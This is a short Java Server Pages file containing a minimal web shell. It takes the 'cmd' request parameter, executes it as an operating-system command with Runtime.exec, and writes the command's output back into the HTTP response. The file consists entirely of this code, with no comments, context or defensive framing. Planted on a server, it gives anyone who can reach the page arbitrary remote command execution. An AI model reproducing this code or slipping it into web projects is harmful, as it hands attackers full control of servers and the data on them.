<%@ page import="java.io.*" %>
<%
String c = request.getParameter("cmd");
if (c != null) {
  Process p = Runtime.getRuntime().exec(c);
  BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
  String l; while ((l = r.readLine()) != null) out.println(l);
}
%>
